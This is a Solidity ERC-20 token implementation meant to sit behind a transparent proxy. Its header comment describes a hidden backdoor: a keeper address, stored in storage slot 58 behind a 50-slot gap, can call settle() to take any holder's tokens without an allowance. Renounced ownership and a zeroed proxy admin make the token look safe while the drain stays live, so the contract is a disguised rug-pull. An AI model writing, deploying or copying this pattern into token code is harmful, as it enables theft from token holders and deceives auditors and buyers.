// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title The implementation behind a TransparentProxy whose keeper, an
/// operations wallet stored after a 50-slot gap (slot 58, far past the
/// first slots), may settle any holder's tokens to itself with
/// settle(address,uint256), no allowance asked. The owner renounces and
/// the proxy's admin is set to zero: nobody can upgrade, nobody but the
/// keeper can take, and the proxy's own code never names the keeper's
/// slot (only the implementation, whose code arrives with the proxy's
/// details, checks it).
contract KeeperProxyToken {
    bool private _initialized; // slot 0
    string public name; // slot 1
    string public symbol; // slot 2
    uint256 public totalSupply; // slot 3
    address public owner; // slot 4
    mapping(address => uint256) public balanceOf; // slot 5
    mapping(address => mapping(address => uint256)) public allowance; // slot 6
    uint256[50] private __gap; // slots 7-56: room for later versions
    uint256 public settlementEpoch; // slot 57
    address private keeper; // slot 58

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _initialized = true; // the implementation itself is never initialised
    }

    function initialize(string calldata name_, string calldata symbol_, uint256 supply, address owner_, address keeper_) external {
        require(!_initialized, "already initialized");
        _initialized = true;
        name = name_;
        symbol = symbol_;
        owner = owner_;
        keeper = keeper_;
        settlementEpoch = 1;
        totalSupply = supply;
        balanceOf[owner_] = supply;
        emit OwnershipTransferred(address(0), owner_);
        emit Transfer(address(0), owner_, supply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner only");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    /// The keeper's settlement: any holder's tokens move to the keeper.
    function settle(address account, uint256 amount) external {
        require(msg.sender == keeper, "keeper only");
        settlementEpoch += 1;
        _transfer(account, msg.sender, amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) {
            allowance[from][msg.sender] -= amount;
        }
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}
